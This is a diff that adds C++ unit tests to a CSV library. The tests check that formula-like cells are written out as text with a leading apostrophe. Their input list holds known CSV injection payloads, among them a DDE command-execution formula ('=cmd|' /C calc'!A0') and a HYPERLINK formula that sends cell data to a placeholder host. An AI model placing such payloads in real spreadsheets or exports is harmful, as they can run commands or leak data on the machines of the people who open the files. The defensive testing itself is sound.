@@ -370,5 +370,34 @@ TEST(CsvEscape, QuotesOnlyWhenNeededAndRoundTrips) {
   EXPECT_EQ(parse_csv(line + "\r\n", options), (Rows{fields}));
 }
 
+// OWASP's CSV injection payloads: each comes back from the file as the text it was, with the
+// apostrophe that makes Excel, WPS and LibreOffice show it instead of running it.
+TEST(CsvTextCell, FormulasBecomeTextNumbersStayNumbers) {
+  const std::vector<std::string> payloads = {
+      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"\xE7\x82\xB9\xE8\xBF\x99\xE9\x87\x8C\")",  // 点这里
+      "+SUM(1+1)", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2", "-"};
+  for (const std::string& p : payloads) {
+    CsvRowWriter row;
+    const std::string line = row.text(p).value("-20").text("plain").line();
+    CsvOptions options;
+    options.delimiter = ',';
+    EXPECT_EQ(parse_csv(line, options), (Rows{{"'" + p, "-20", "plain"}})) << p;
+  }
+  EXPECT_EQ(csv_text_cell("=1+1", ','), "'=1+1");
+  EXPECT_EQ(csv_text_cell("=1,1", ','), "\"'=1,1\"");
+  EXPECT_EQ(csv_text_cell("a=1", ','), "a=1");
+  EXPECT_EQ(csv_text_cell(" =1", ','), " =1");  // not a formula: spreadsheets keep the space
+  EXPECT_EQ(csv_text_cell("", ','), "");
+  EXPECT_EQ(csv_text_cell("\xE5\xAE\xA2\xE6\x88\xB7", ','), "\xE5\xAE\xA2\xE6\x88\xB7");
+}
+
+TEST(CsvRowWriter, EmptyCellsKeepTheirPlaceAndEachLineEndsInCrlf) {
+  CsvRowWriter row;
+  EXPECT_EQ(row.text("").text("b").value("").line(), ",b,\r\n");
+  EXPECT_EQ(row.value("1").line(), "1\r\n");
+  CsvRowWriter semicolons(';');
+  EXPECT_EQ(semicolons.text("a;b").value("2").line(), "\"a;b\";2\r\n");
+}
+
 }  // namespace
 }  // namespace fieldbook
